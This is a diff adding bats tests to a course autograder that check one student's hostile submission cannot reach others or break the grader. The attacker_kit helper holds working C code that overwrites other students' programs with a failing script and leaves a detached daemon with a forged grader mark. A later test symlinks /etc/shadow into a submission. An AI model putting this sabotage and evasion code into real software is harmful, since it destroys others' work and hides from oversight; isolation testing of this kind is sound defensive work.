@@ -197,3 +197,136 @@ EOF
     done
     rm -rf "$canary"
 }
+
+# attacker_kit DIR ROOT: a kit whose io_sync, run with --help, leaves a
+# daemon behind (its own session, a clean environment and a forged
+# grader's mark, so no mark finds it) that for 100 s replaces every
+# other io_sync it finds under ROOT/conkit-grade.*/kit/ -- the other
+# students' programs, graded beside or after it -- with one that fails;
+# every run of it tries so once too, and the --help run for 25 s.
+attacker_kit() {
+    sed "s|@ROOT@|$2|" <<'EOF' | patch_c "$1/labs/lab2/io_sync.c"
+#include <fcntl.h>
+#include <glob.h>
+#include <limits.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+#include <unistd.h>
+static void attack_others(int rounds)
+{
+    char self[PATH_MAX] = "";
+    if (!realpath("/proc/self/exe", self))
+        self[0] = 0;
+    for (int round = 0; round < rounds; round++) {
+        glob_t found;
+        if (glob("@ROOT@/conkit-grade.*/kit/io_sync", 0, NULL, &found) == 0) {
+            for (size_t i = 0; i < found.gl_pathc; i++) {
+                const char *path = found.gl_pathv[i];
+                static const char fake[] = "#!/bin/sh\nexit 3\n";
+                int fd;
+                if (strcmp(path, self) == 0)
+                    continue;
+                fd = open(path, O_WRONLY | O_TRUNC);
+                if (fd >= 0) {
+                    if (write(fd, fake, sizeof fake - 1) < 0)
+                        break;
+                    close(fd);
+                }
+            }
+            globfree(&found);
+        }
+        usleep(100000);
+    }
+}
+__attribute__((constructor)) static void attack(int argc, char **argv)
+{
+    int help = 0;
+    for (int i = 1; i < argc; i++)
+        help |= strcmp(argv[i], "--help") == 0;
+    attack_others(help ? 250 : 1);     /* --help: waits 25 s for others */
+    if (!help || fork() != 0)
+        return;
+    setsid();
+    if (fork() != 0)
+        _exit(0);
+    clearenv();
+    setenv("CONKIT_GRADE_RUN", "1.2.3", 1);
+    for (int fd = 0; fd < 64; fd++)
+        close(fd);
+    attack_others(1000);
+    _exit(0);
+}
+EOF
+}
+
+@test "attack: a student's program and its daemon reach no other student in grade --class --jobs 2, with or without a pids cgroup" {
+    need_root
+    local class="$BATS_TEST_TMPDIR/class" cgroup out user
+    mkdir -p "$class"
+    copy_kit a-attacker "$class" >/dev/null
+    attacker_kit "$class/a-attacker" "$GRADE_TMP"
+    # built already: its checks run as early as the others'
+    make -C "$class/a-attacker" --no-print-directory io_sync >/dev/null 2>&1
+    copy_kit b-victim "$class" >/dev/null
+    copy_kit c-victim "$class" >/dev/null
+    TABLE="$(table lab2 "$LAB2_HELP" "$LAB2_ALL")"
+    for cgroup in yes no; do
+        out="$BATS_TEST_TMPDIR/out-$cgroup"
+        if [ "$cgroup" = yes ]; then
+            run --separate-stderr grade --class "$class" --jobs 2 \
+                --points "$TABLE" --out "$out"
+        else
+            CONKIT_NO_CGROUP=1 run --separate-stderr grade --class "$class" \
+                --jobs 2 --points "$TABLE" --out "$out"
+        fi
+        assert_success
+        # each victim scores what it scores alone: full marks
+        grep -q '^"b-victim",3,3,' "$out/class.csv" ||
+            fail "b-victim ($cgroup cgroup): $(cat "$out/class.csv" "$out/b-victim/grade.txt")"
+        grep -q '^"c-victim",3,3,' "$out/class.csv" ||
+            fail "c-victim ($cgroup cgroup): $(cat "$out/class.csv" "$out/c-victim/grade.txt")"
+        grep -q '^"a-attacker",3,3,' "$out/class.csv"
+        # two at once, two users (a slot's user is used again only after
+        # its grader swept it); nothing of any of them is left
+        [ "$(users_of "$out" | wc -l)" -ge 2 ] ||
+            fail "users: $(users_of "$out")"
+        for user in $(users_of "$out"); do
+            assert_user_gone "$user"
+        done
+    done
+}
+
+@test "attack: a submission that would stop the autograder (a file for a folder, links, a huge file, a folder for the Makefile) gets results.json: 0 and the reason" {
+    local root="$BATS_TEST_TMPDIR/autograder" kind results
+    mkdir -p "$root"
+    "$KIT/scripts/gradescope/bundle" "$BATS_TEST_TMPDIR/autograder.zip" >/dev/null
+    unzip -q "$BATS_TEST_TMPDIR/autograder.zip" -d "$root/source"
+    for kind in file-for-folder link huge folder-for-makefile fifo; do
+        rm -rf "$root/submission" "$root/results"
+        mkdir -p "$root/submission/labs/lab2"
+        cp "$KIT/labs/lab2/io_sync.c" "$root/submission/labs/lab2/"
+        case "$kind" in
+        file-for-folder) echo "not a folder" >"$root/submission/common" ;;
+        link) ln -s /etc/shadow "$root/submission/labs/lab2/notes.txt" ;;
+        huge) truncate -s 80M "$root/submission/labs/lab2/data.bin" ;;
+        folder-for-makefile) mkdir "$root/submission/Makefile" ;;
+        fifo) mkfifo "$root/submission/labs/lab2/pipe" ;;
+        esac
+        AUTOGRADER_ROOT="$root" GRADE_ARGS="lab2" \
+            run timeout -k 5 300 "$root/source/run_autograder"
+        assert_success
+        results="$root/results/results.json"
+        [ -f "$results" ] || fail "$kind: no results.json: $output"
+        run jq -r '[.score, (.tests | length), (.execution_time | type)]
+            | @tsv' "$results"
+        assert_output "$(printf '0\t0\tnumber')"
+        run jq -r .output "$results"
+        case "$kind" in
+        file-for-folder) assert_output --partial "'common' is a file where the kit has a folder" ;;
+        link | fifo) assert_output --partial "links or special files are not accepted" ;;
+        huge) assert_output --partial "the submission holds" ;;
+        folder-for-makefile) assert_output --partial "'Makefile' is a folder where the kit has a file" ;;
+        esac
+    done
+}
